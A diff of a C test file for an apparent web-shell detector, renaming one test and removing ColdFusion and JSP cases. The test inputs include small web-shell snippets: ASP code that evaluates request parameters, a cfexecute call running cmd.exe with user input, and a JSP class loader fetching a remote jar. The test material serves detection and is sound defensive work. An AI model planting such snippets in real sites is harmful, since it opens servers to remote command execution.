@@ -401,7 +401,7 @@ static void settings_that_are_written_to_a_page_are_no_shell(void)
          "Evaluates", "");
 }
 
-static void tables_of_functions_and_loose_variables_are_followed(void)
+static void tables_of_functions_and_objects_by_name_are_followed(void)
 {
     says("a.asp",
          "<%@ Language=\"JScript\" %><% var t = {'n' : Request.form('q'), 'e' : " EVALUATES
@@ -411,13 +411,6 @@ static void tables_of_functions_and_loose_variables_are_followed(void)
          "<%set s=server.createObject(\"ScriptControl\")\ns.AddObject \"r\", Request\n"
          "s.AddCode r(\"z\")%>",
          "EvaluatesParameter", "z");
-    says("a.cfm", "<cfexecute name=\"cmd.exe\" arguments=\"/c #cmd#\"></cfexecute>", "Executes",
-         "variable cmd");
-    says("a.cfm",
-         "<cfset cmd=\"date\"><cfexecute name=\"cmd.exe\" arguments=\"/c #cmd#\"></cfexecute>",
-         "Executes", "");
-    says("a.jsp", "<% new URLClassLoader(new URL[]{new URL(\"http://h/e.jar\")}); %>", "Loads",
-         "remote");
 }
 
 int main(void)
@@ -446,7 +439,7 @@ int main(void)
     RUN(numbers_and_flags_are_read_as_the_language_reads_them);
     RUN(the_noise_of_an_image_is_no_code);
     RUN(settings_that_are_written_to_a_page_are_no_shell);
-    RUN(tables_of_functions_and_loose_variables_are_followed);
+    RUN(tables_of_functions_and_objects_by_name_are_followed);
     RUN(deep_code_ends);
     return kit_end();
 }
